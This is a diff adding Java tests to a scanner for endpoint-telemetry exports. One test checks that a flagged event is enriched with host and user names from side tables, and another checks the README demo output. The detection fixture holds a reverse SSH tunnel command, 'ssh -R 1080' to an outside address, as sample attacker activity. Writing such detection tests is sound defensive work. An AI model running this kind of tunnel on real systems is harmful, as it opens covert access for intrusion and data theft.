@@ -76,6 +76,33 @@ class CommandsTest {
   }
 
   @Test
+  void scan_names_hosts_and_users_from_falcons_side_tables_wherever_they_lie() throws IOException {
+    file(
+        "data.ndjson",
+        """
+        {"event_simpleName":"ProcessRollup2","event_platform":"Win","aid":"a1b2","cid":"c1","id":"e1",\
+        "timestamp":"1772438400000","TargetProcessId":"77","RawProcessId":"4711","UserSid":"S-1-5-21-7-7-7-1104",\
+        "ImageFileName":"\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\OpenSSH\\\\ssh.exe",\
+        "CommandLine":"ssh -R 1080 u@203.0.113.9"}
+        """);
+    file(
+        "side.ndjson",
+        """
+        {"aid":"a1b2","ComputerName":"WS-OLD","AgentVersion":"7.1","Time":"1700000000"}
+        {"aid":"a1b2","ComputerName":"WS-NEW","AgentVersion":"7.1","Time":"1772000000"}
+        {"aid":"ffff","ComputerName":"OTHER","AgentVersion":"7.1","Time":"1772000000"}
+        {"UserSid_readable":"S-1-5-21-7-7-7-1104","UserName":"bella","LogonDomain":"EXAMPLE","cid":"c1"}
+        """);
+
+    assertThat(run("scan", "--format", "json", directory.toString())).isEqualTo(1);
+    JsonNode c = new JsonMapper().readTree(out.toString());
+    assertThat(c.at("/host/id").asText()).isEqualTo("a1b2");
+    assertThat(c.at("/host/name").asText()).isEqualTo("WS-NEW");
+    assertThat(c.at("/user").asText()).isEqualTo("EXAMPLE\\bella");
+    assertThat(err.toString()).contains("4 reference rows");
+  }
+
+  @Test
   void scan_exits_0_when_nothing_is_found() throws IOException {
     assertThat(run("scan", file("c.xml", Exports.harmless(1, "ws1.example.com")).toString()))
         .isZero();
@@ -131,6 +158,19 @@ class CommandsTest {
         .doesNotContain(MorningExport.PASSWORD)
         .doesNotContain("dev01");
     assertThat(err.toString()).isEmpty();
+  }
+
+  @Test
+  void the_readme_shows_what_the_demo_prints() throws IOException {
+    String readme = Files.readString(Path.of("README.md"));
+    int begin = readme.indexOf("```text\n", readme.indexOf("<!-- demo -->")) + "```text\n".length();
+    List<String> shown = readme.substring(begin, readme.indexOf("```", begin)).lines().toList();
+
+    run("demo");
+
+    List<String> printed = out.toString().lines().map(String::stripTrailing).toList();
+    assertThat(shown).hasSizeGreaterThan(20);
+    assertThat(printed.subList(0, shown.size())).isEqualTo(shown);
   }
 
   @Test
